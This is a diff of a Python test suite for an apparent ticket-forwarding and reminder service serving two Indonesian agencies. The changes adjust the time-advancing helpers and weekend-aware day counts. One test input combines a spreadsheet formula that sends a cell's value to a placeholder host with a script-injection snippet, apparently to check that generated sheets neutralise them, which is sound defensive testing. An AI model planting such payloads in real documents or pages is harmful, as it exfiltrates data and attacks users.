@@ -147,6 +147,7 @@ def tickets_in(path):
 def test_sheets_by_agency_and_day(env):
     """Two agencies, two days: a document for each; made of the logs, not of the forwarder's files."""
     with Office(env) as o:
+        o.within_a_day()
         o.start(o.destination('kantor', 'manual', max_filings_per_hour=0,
                               agencies={'Dinas Perhubungan': '77', 'Dinas PU': '78'}))
         evil = '=HYPERLINK("http://x/"&A1) <script>alert(1)</script>'
@@ -311,12 +312,11 @@ def test_killed_between_sheet_and_log(env):
 
 
 def to_workday(o, ms):
-    """The time turned on by ms, and further until it is a working day where the officers are."""
-    while True:
-        o.later(ms)
-        if (datetime.fromtimestamp(now_ms(o.env) / 1000, timezone.utc) + timedelta(hours=7)).weekday() < 5:
-            return
-        ms = DAY
+    """The time turned on by ms, and further until it is a working day where the officers are, not at its end."""
+    o.later(ms)
+    o.within_a_day()
+    while (datetime.fromtimestamp(now_ms(o.env) / 1000, timezone.utc) + timedelta(hours=7)).weekday() > 4:
+        o.later(DAY)
 
 
 def gauge(d, name):
@@ -337,6 +337,7 @@ def test_reminded_once_a_working_day(env):
     with Office(env) as o:
         d = o.start(o.destination('kantor', 'manual', max_filings_per_hour=0))
         one, two = handed(o, 'Jalan rusak', 'Got mampet')
+        begin = now_ms(env)
         looked(o, d)
         wait_until(lambda: gauge(d, 'handed_waiting') == 2, 20, 'two sheets are out')
         assert not o.records('reminded')
@@ -349,7 +350,8 @@ def test_reminded_once_a_working_day(env):
             (c['ticket'], 1, True) for c in (one, two)), rows
         assert ctl(env, 'worklist', '--overdue', '30d')[0] == 0
         assert gauge(d, 'person_oldest_seconds') > 2 * 24 * 3600
-        assert '2 sheets out, the oldest for 2 d' in d.healthz()[1]
+        days = int((now_ms(env) - begin) / DAY)  # 2, or 4 over a weekend
+        assert f'2 sheets out, the oldest for {days} d' in d.healthz()[1]
         # Not again on that day, whatever happens to the process.
         d.kill9()
         d.start()
